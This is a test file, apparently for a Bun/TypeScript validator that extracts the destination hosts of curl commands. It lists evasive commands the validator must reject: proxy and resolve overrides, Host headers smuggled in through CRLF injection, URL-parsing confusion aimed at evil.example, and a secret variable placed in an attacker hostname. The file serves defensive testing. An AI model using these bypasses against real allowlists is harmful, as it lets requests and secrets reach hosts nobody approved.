import { expect, test } from "bun:test";
import { hostsOfCurl } from "./curl-hosts.ts";

const address = "https://api.example.com/v1";

test("a request of curl goes where its addresses say", () => {
	expect(hostsOfCurl(["curl", "-sS", "-H", "X-Key: $KEY", "-d", "@body.json", "-XPUT", address])).toEqual([
		"api.example.com",
	]);
	expect(hostsOfCurl(["curl", address, "https://API.example.org:8443"])).toEqual([
		"api.example.com",
		"api.example.org:8443",
	]);
	expect(hostsOfCurl(["curl", "--request", "POST", "--url", "http://127.0.0.1:80/a?b=c@d"])).toEqual(["127.0.0.1:80"]);
});

test("where anything else goes nobody says", () => {
	const commands: readonly (readonly string[])[] = [
		["wget", address],
		["./curl", address],
		["curl"],
		["curl", "-s"],
		["curl", address, "-H"],
		// Another server in between, or in the place of the one that is named.
		["curl", "-x", "http://evil.example", address],
		["curl", "-xhttp://evil.example", address],
		["curl", "-sx", "http://evil.example", address],
		["curl", "--connect-to", "::evil.example:", address],
		["curl", "--resolve", "api.example.com:443:192.0.2.1", address],
		["curl", "--doh-url", "https://evil.example", address],
		["curl", "-K", "file", address],
		["curl", "-L", address],
		["curl", "-k", address],
		["curl", "-sk", address],
		["curl", "--next", address],
		["curl", "-H", "Host: evil.example", address],
		["curl", "-H", " host : evil.example", address],
		["curl", "-H", "a: b\r\nHost: evil.example", address],
		["curl", "-A", "a\r\nHost: evil.example", address],
		["curl", "-X", "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\nGET", address],
		["curl", "-G", "-d", "a\r\nHost: evil.example", address],
		["curl", "-H", "@headers", address],
		["curl", "-H", "$KEY", address],
		// What one reader of addresses takes for the host, and another does not.
		["curl", "api.example.com"],
		["curl", "http://api.example.com/"],
		["curl", "ftp://api.example.com/"],
		["curl", "https://api.example.com@evil.example/"],
		["curl", "https://api.example.com\\@evil.example/"],
		["curl", "https://api.example.com?@evil.example/"],
		["curl", "https://api.example.com#@evil.example/"],
		["curl", "https://api.example.com$KEY/"],
		["curl", "https://$KEY.evil.example/"],
		["curl", "https://{api.example.com,evil.example}/"],
		["curl", "https://api.example.com/ https://evil.example/"],
		["curl", "https://api.example.com/\nhttps://evil.example/"],
	];
	for (const words of commands) expect([words, hostsOfCurl(words)]).toEqual([words, undefined]);
});
